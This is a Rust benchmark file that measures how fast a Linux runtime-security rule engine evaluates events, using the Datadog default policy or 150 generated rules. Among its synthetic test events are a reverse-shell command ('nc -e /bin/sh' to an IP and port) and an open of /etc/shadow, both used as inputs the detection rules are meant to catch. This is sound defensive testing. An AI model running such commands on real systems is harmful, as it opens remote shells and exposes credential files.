//! Events per second per core through the rule engine, with the Datadog default policy loaded (the Linux
//! rules that compile, ~270) or, when that file is absent, 150 generated rules.
//!
//! `cargo bench -p rampart-policy --bench eval`
//!
//! Each evaluation is timed twice: wall clock (`evaluate/*`) and the benchmark thread's own CPU time
//! (`evaluate_cpu/*`, from `CLOCK_THREAD_CPUTIME_ID`), which stays meaningful on a machine shared with other
//! builds: events per second per core is `1 / cpu time per event`.

use std::path::PathBuf;
use std::sync::Arc;

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use rampart_model::events::{FileTarget, OpenEvent};
use rampart_model::{Event, EventData, FileInfo, Process, ProcessContext, ProcessNode};
use rampart_policy::{load_paths, load_sources, HostInfo, LoadOptions, PolicySource};
use rampart_secl::{MemoryStore, RuleSet};
use rampart_testkit::load::thread_cpu;

fn ruleset() -> (RuleSet, &'static str) {
    let opts = LoadOptions {
        host: HostInfo::default(),
        agent_version: None,
        typecheck_filtered: false,
        suppressions: Default::default(),
        deadline: None,
    };
    let corpus = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/reference/datadog-policies/default.policy");
    if corpus.exists() {
        let loaded = load_paths(&[corpus], &opts).unwrap();
        return (loaded.ruleset, "datadog default policy");
    }
    let mut text = String::from("rules:\n");
    for i in 0..75 {
        text.push_str(&format!(
            "  - id: exec_{i}\n    expression: exec.file.path == \"/opt/tool{i}/bin/x\" && process.ancestors.file.name in [\"sshd\", \"cron\"]\n"
        ));
        text.push_str(&format!(
            "  - id: open_{i}\n    expression: open.file.path in [~\"/etc/app{i}/**\"] && open.flags & (O_WRONLY|O_RDWR) > 0 && process.file.name not in [\"dpkg\", \"rpm\"]\n"
        ));
    }
    let src = PolicySource {
        name: "generated".into(),
        file: "generated.policy".into(),
        text,
    };
    (load_sources(&[src], &opts).ruleset, "150 generated rules")
}

fn lineage(leaf: &str, argv: &[&str]) -> Arc<ProcessNode> {
    let init = ProcessNode::new(
        Process {
            pid: 1,
            comm: "systemd".into(),
            file: FileInfo::from_path("/usr/lib/systemd/systemd"),
            ..Default::default()
        },
        None,
    );
    let cron = ProcessNode::new(
        Process {
            pid: 50,
            comm: "containerd".into(),
            file: FileInfo::from_path("/usr/bin/containerd"),
            ..Default::default()
        },
        Some(init),
    );
    let mut p = Process {
        pid: 4000,
        comm: FileInfo::from_path(leaf).name.clone(),
        file: FileInfo::from_path(leaf),
        ..Default::default()
    };
    p.set_argv(argv.iter().map(|s| s.to_string()).collect());
    // A daemon's child: no login session (AUDIT_AUID_UNSET), as most processes on a server.
    p.credentials.auid = u32::MAX;
    ProcessNode::new(p, Some(cron))
}

fn exec(leaf: &str, argv: &[&str]) -> Event {
    let mut ev = Event::exec(1_700_000_000_000_000_000, lineage(leaf, argv));
    ev.event.origin = "ebpf".into();
    ev
}

fn open(path: &str, flags: u32) -> Event {
    let node = lineage("/usr/bin/python3", &["python3", "app.py"]);
    let data = EventData::Open(OpenEvent {
        file: FileTarget::from_path(path),
        flags,
        retval: 3,
        syscall: None,
    });
    Event::new(1_700_000_000_000_000_000, ProcessContext::new(node), data)
}

fn bench(c: &mut Criterion) {
    let (rs, what) = ruleset();
    let store = MemoryStore::new();
    let cases = [
        (
            "exec_no_match",
            exec("/usr/bin/ls", &["ls", "-la", "/srv"]),
            false,
        ),
        ("open_no_match", open("/srv/app/data.db", 0o2), false),
        (
            "exec_match",
            exec("/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
            true,
        ),
        ("open_match", open("/etc/shadow", 0o1), true),
    ];
    eprintln!(
        "{what}: {} rules ({} exec, {} open)",
        rs.rules().len(),
        rs.rules_for(rampart_model::EventType::Exec).len(),
        rs.rules_for(rampart_model::EventType::Open).len()
    );
    for t in [
        rampart_model::EventType::Exec,
        rampart_model::EventType::Open,
    ] {
        let (always, fields) = rs.index_stats(t);
        eprintln!(
            "{t}: {always} rules evaluated for every event, the others indexed on {fields:?}"
        );
    }
    let mut g = c.benchmark_group("evaluate");
    g.throughput(Throughput::Elements(1));
    for (name, ev, want_match) in &cases {
        let found = rs.evaluate(ev, &store);
        let n = found.len();
        eprintln!(
            "{name}: {n} matches {:?}, {} rules evaluated",
            found.iter().map(|m| m.rule.id.as_str()).collect::<Vec<_>>(),
            rs.candidates_for(ev).len()
        );
        if !*want_match {
            assert_eq!(n, 0, "{name} must not match");
        }
        g.bench_function(*name, |b| {
            b.iter(|| black_box(rs.evaluate(black_box(ev), &store)))
        });
    }
    g.finish();
    let mut g = c.benchmark_group("evaluate_cpu");
    g.throughput(Throughput::Elements(1));
    for (name, ev, _) in &cases {
        g.bench_function(*name, |b| {
            b.iter_custom(|iters| {
                let start = thread_cpu();
                for _ in 0..iters {
                    black_box(rs.evaluate(black_box(ev), &store));
                }
                thread_cpu() - start
            })
        });
    }
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
